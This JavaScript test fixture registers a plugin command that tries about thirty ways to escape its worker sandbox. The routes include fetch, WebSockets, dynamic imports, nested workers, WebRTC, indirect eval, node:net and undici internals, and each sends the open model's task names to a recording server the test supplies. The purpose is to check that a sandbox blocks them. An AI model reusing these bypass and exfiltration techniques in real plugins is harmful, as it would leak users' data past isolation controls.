// Test fixture: tries every way out of its worker it knows of, each carrying the open model's task names, against
// the URLs the test gives (a recording server). Returns, per attempt, 'blocked: <error>' (the plugin caught an
// error) or 'succeeded'. A way that does not exist on this platform is blocked with the TypeError it throws.
const WAIT_MS = 3_000;

/** Settles with the attempt's outcome: resolve = it got through, reject = blocked. */
function attempt(run) {
  return new Promise((resolve) => {
    const timer = setTimeout(() => resolve('timed out'), WAIT_MS);
    const done = (outcome) => {
      clearTimeout(timer);
      resolve(outcome);
    };
    try {
      Promise.resolve(run()).then(
        () => done('succeeded'),
        (error) => done(`blocked: ${error?.name ?? 'Error'}: ${error?.message ?? error}`),
      );
    } catch (error) {
      done(`blocked: ${error?.name ?? 'Error'}: ${error?.message ?? error}`);
    }
  });
}

/** Wraps an event-based API: `open` = success, `error`/`close` first = blocked. */
const events = (target, success, failure = ['error', 'close']) =>
  new Promise((resolve, reject) => {
    for (const name of success) target.addEventListener(name, () => resolve(), { once: true });
    for (const name of failure) target.addEventListener(name, (event) => reject(new Error(`${name} event${event?.code ? ` (code ${event.code})` : ''}`)), { once: true });
  });

export function activate(context) {
  context.subscriptions.push(
    context.commands.registerCommand('fixtures.escape.tryAll', async (base, sameOrigin) => {
      const model = context.model.getActiveModel();
      const tasks = encodeURIComponent((model?.graph.nodes ?? []).filter((n) => /task/i.test(n.kind)).map((n) => n.name ?? n.id).join('|'));
      const scope = globalThis;
      const host = String(base).replace(/^https?:\/\//, '');
      const url = (path) => `${base}/${path}?tasks=${tasks}`;
      const ways = {
        fetch: () => scope.fetch(url('fetch')),
        fetchViaPrototype: () => Object.getPrototypeOf(scope).fetch.call(scope, url('fetch-prototype')),
        xhr: () =>
          new Promise((resolve, reject) => {
            const request = new scope.XMLHttpRequest();
            request.open('GET', url('xhr'));
            request.onload = resolve;
            request.onerror = () => reject(new Error('xhr error event'));
            request.send();
          }),
        webSocket: () => events(new scope.WebSocket(`ws://${host}/websocket?tasks=${tasks}`), ['open']),
        webSocketStream: async () => {
          const stream = new scope.WebSocketStream(`ws://${host}/websocketstream?tasks=${tasks}`);
          const { writable } = await stream.opened;
          await writable.getWriter().write(decodeURIComponent(tasks));
        },
        webTransport: async () => {
          const transport = new scope.WebTransport(`https://${host}/webtransport?tasks=${tasks}`);
          await transport.ready;
        },
        eventSource: () => events(new scope.EventSource(url('eventsource')), ['open'], ['error']),
        importCrossOrigin: () => import(/* @vite-ignore */ url('cross-origin.js')),
        importSameOrigin: () => import(/* @vite-ignore */ `${sameOrigin ?? scope.location?.origin}/__leanflow_probe/same-origin.js?tasks=${tasks}`),
        importData: () => import(/* @vite-ignore */ `data:text/javascript,export default ${JSON.stringify(decodeURIComponent(tasks))}`),
        importBlob: () => import(/* @vite-ignore */ URL.createObjectURL(new Blob([`export default 1`], { type: 'text/javascript' }))),
        importScripts: () => scope.importScripts(url('import-scripts.js')),
        nestedWorker: () => events(new scope.Worker(url('worker.js')), ['message'], ['error']),
        nestedDataWorker: () => events(new scope.Worker(`data:text/javascript,fetch(${JSON.stringify(url('nested-data-worker'))})`), ['message'], ['error']),
        sharedWorker: () => events(new scope.SharedWorker(url('shared-worker.js')).port, ['message'], ['messageerror']),
        sendBeacon: () => {
          if (!scope.navigator.sendBeacon(url('beacon'), 'tasks')) throw new Error('sendBeacon refused');
        },
        rtcPeerConnection: async () => {
          const peer = new scope.RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
          peer.createDataChannel('tasks');
          await peer.setLocalDescription(await peer.createOffer());
        },
        fontFace: () => new scope.FontFace('escape', `url(${url('font.woff2')})`).load(),
        imageBitmap: () => scope.createImageBitmap(new Blob([`<svg xmlns="http://www.w3.org/2000/svg"><image href="${url('image.png')}"/></svg>`], { type: 'image/svg+xml' })),
        wasmStreaming: () => WebAssembly.compileStreaming(scope.fetch(url('module.wasm'))),
        evalFetch: () => (0, eval)('fetch')(url('eval')),
        functionFetch: () => new Function('u', 'return fetch(u)')(url('function')),
        broadcastChannel: () => new scope.BroadcastChannel('leanflow').postMessage(decodeURIComponent(tasks)),
        parentPostMessage: () => scope.postMessage(decodeURIComponent(tasks)),
        nodeNet: async () => {
          const net = await import(/* @vite-ignore */ 'node:' + 'net');
          await new Promise((resolve, reject) => net.connect(Number(host.split(':')[1]), '127.0.0.1', resolve).on('error', reject));
        },
        nodeHttp: async () => {
          const http = await import(/* @vite-ignore */ 'node:' + 'http');
          await new Promise((resolve, reject) => http.get(url('node-http'), resolve).on('error', reject));
        },
        undiciDispatcher: () => {
          // Node: touching Response loads undici, which publishes its connection pool on the global object.
          try {
            void new scope.Response('');
          } catch {
            // not there: fine, the slot is what matters
          }
          const dispatcher = scope[Symbol.for('undici.globalDispatcher.1')];
          return new Promise((resolve, reject) => dispatcher.dispatch({ origin: base, path: `/undici?tasks=${tasks}`, method: 'GET' }, { onError: reject, onConnect() {}, onHeaders() {}, onData() {}, onComplete: resolve }));
        },
        processBinding: () => scope.process.binding('tcp_wrap'),
      };
      const outcomes = {};
      await Promise.all(Object.entries(ways).map(async ([name, run]) => (outcomes[name] = await attempt(run))));
      return outcomes;
    }),
  );
}
